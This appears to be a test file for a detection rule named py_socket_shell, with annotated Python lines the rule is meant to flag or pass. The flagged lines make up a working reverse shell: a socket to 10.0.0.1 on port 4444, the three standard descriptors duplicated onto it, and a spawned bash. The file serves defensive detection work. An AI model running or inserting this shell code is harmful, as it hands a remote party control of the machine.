# The three descriptors duplicated in a loop or a map.
import os, pty, socket
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("10.0.0.1", 4444))
# ruleid: py_socket_shell
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
# ruleid: py_socket_shell
list(map(lambda fd: os.dup2(s.fileno(), fd), [0, 1, 2]))
pty.spawn("/bin/bash")
# ok: py_socket_shell
os.dup2(log.fileno(), target)
